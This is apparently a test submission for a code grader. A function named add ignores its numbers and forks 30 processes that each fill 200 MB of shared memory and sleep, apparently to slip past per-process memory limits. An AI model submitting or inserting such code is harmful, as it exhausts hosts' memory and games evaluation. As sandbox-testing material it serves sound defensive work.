# tries: shared memory, filled by many processes of which each has little of its own
# must: no point; graded or needs a person
# %% answer sum-all
import mmap
import os
import time


def add(numbers):
    for _ in range(30):
        shared = mmap.mmap(-1, 200_000_000)
        if os.fork() == 0:
            for place in range(0, 200_000_000, 4096):
                shared[place] = 1
            time.sleep(200)
            os._exit(0)
    time.sleep(200)
